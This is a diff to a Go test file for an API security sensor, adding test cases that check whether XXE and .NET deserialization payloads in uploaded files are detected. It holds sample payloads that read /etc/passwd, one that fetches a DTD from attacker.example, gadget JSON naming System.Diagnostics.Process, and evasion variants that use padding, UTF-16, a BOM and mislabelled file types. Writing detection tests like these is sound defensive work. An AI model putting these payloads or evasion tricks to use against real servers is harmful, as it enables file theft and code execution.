@@ -2,10 +2,21 @@ package tier1
 
 import (
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/apisensor/sensor/decoders"
 )
+
+// utf16le spells s in UTF-16LE (ASCII and the byte order mark only).
+func utf16le(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		b.WriteByte(byte(r))
+		b.WriteByte(byte(r >> 8))
+	}
+	return b.String()
+}
 
 // What an attacker reads or runs on a Kubernetes node or in a container,
 // where the sensor runs as a DaemonSet: the files that hold the cluster's
@@ -257,6 +268,14 @@ func TestUploadedDocuments(t *testing.T) {
 		{part("avatar.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`), "xxe-external-entity"},
 		{part("import.xml", "application/octet-stream", `<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]><r/>`), "xxe-external-entity"},
 		{part("import.json", "application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`), "deserialization-gadget"},
+		// Past a field's length, after a byte order mark, in UTF-16, named
+		// as an image, typed x-json.
+		{part("import.json", "application/json", `{"pad":"`+strings.Repeat("x", 9000)+`","$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`), "deserialization-gadget"},
+		{part("import.json", "application/json", "\ufeff"+`{"$type":"System.Diagnostics.Process, System"}`), "deserialization-gadget"},
+		{part("import.json", "application/json", `/* x */ {'$type':'System.Diagnostics.Process, System'}`), "deserialization-gadget"},
+		{part("a.svg", "image/svg+xml", utf16le("\ufeff"+`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>`)), "xxe-external-entity"},
+		{part("avatar.png", "image/png", `<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text></svg>`), "xxe-external-entity"},
+		{part("data", "application/x-json", `{"$type":"System.Diagnostics.Process, System"}`), "deserialization-gadget"},
 		{part("logo.svg", "image/svg+xml", `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Logo</title><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`), ""},
 	} {
 		x := exchange()
